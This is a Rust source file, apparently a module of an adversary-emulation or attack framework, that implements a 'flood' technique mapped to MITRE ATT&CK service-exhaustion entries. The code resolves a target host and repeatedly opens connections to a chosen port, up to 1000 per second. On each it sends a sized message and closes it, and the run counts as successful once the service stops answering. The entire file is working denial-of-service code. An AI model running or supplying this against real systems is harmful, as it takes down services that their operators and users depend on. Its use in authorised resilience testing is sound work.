//! Asks a service more often than it can bear.

use super::{Params, Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::time::Duration;
use crate::wire::Message;

/// Technique `flood`.
#[derive(Debug)]
pub(super) struct Flood;

static ENTRY: Entry = Entry {
    id: "flood",
    title: "Flood a service with requests",
    summary: "Opens a stream to a port many times per second, sends one message of a size on each, and closes it. Ends after a time, as success if \
              by then the service has stopped answering. What the target bears is its own affair: a host without a limit answers all of them. Its noise is \
              the flood.",
    parameters: &[
        Parameter {
            name: "target",
            kind: ParameterKind::Host,
            required: true,
            doc: "host to flood",
        },
        Parameter {
            name: "port",
            kind: ParameterKind::Integer,
            required: true,
            doc: "port of the service",
        },
        Parameter {
            name: "per_second",
            kind: ParameterKind::Integer,
            required: false,
            doc: "requests per second, up to 1000; 50 if not given",
        },
        Parameter {
            name: "bytes",
            kind: ParameterKind::Integer,
            required: false,
            doc: "bytes in each message; 400 if not given",
        },
        Parameter {
            name: "over",
            kind: ParameterKind::Duration,
            required: false,
            doc: "how long it goes on; 2m if not given",
        },
    ],
    references: &["T1499.002", "T0814"],
};

const TOKEN_NEXT: u32 = 1;
const TOKEN_END: u32 = 2;

fn over(params: &Params) -> Duration {
    params.duration("over").unwrap_or(Duration::from_mins(2))
}

fn next(step: &mut Step<'_, '_, '_>) -> Progress {
    let port = step.params.integer("port");
    let port = port.and_then(|p| u16::try_from(p).ok()).unwrap_or(0);
    let rate = step.params.integer("per_second").unwrap_or(50);
    let pause = Duration::from_secs_f64(1.0 / (rate.clamp(1, 1000) as f64));
    if let Some(ip) = step.state.target {
        step.hands.connect(ip, port);
        step.state.tries += 1;
    }
    step.hands.timer(pause, TOKEN_NEXT);
    Progress::Reached(1)
}

fn begin(step: &mut Step<'_, '_, '_>) -> Progress {
    step.hands.timer(over(step.params), TOKEN_END);
    next(step)
}

impl Technique for Flood {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "flood", "answered", "no longer answered"]
    }

    fn patience(&self, params: &Params) -> Duration {
        over(params) + Duration::from_mins(1)
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = step.params.text("target");
        match input {
            Input::Begin => match step.find(name) {
                Some(_) => begin(step),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                begin(step)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Timer(TOKEN_NEXT) => next(step),
            Input::Timer(TOKEN_END) if step.state.stage < 2 => {
                Progress::Failed("it never answered")
            }
            // What was asked in the last while and not answered is told by how many streams failed.
            Input::Timer(TOKEN_END) if step.knowledge.net.unanswered > 0 => {
                Progress::Done("it answers no more")
            }
            Input::Timer(TOKEN_END) => Progress::Failed("it answered to the end"),
            Input::Socket(SocketEvent::Opened(stream)) => {
                let bytes = step.params.integer("bytes").unwrap_or(400);
                let bytes = u32::try_from(bytes).unwrap_or(400);
                step.hands.send(*stream, Message::Opaque { bytes });
                step.hands.close(*stream);
                Progress::Reached(2)
            }
            Input::Socket(SocketEvent::Failed { refused: false, .. }) => {
                step.knowledge.net.unanswered += 1;
                Progress::Wait
            }
            _ => Progress::Wait,
        }
    }
}
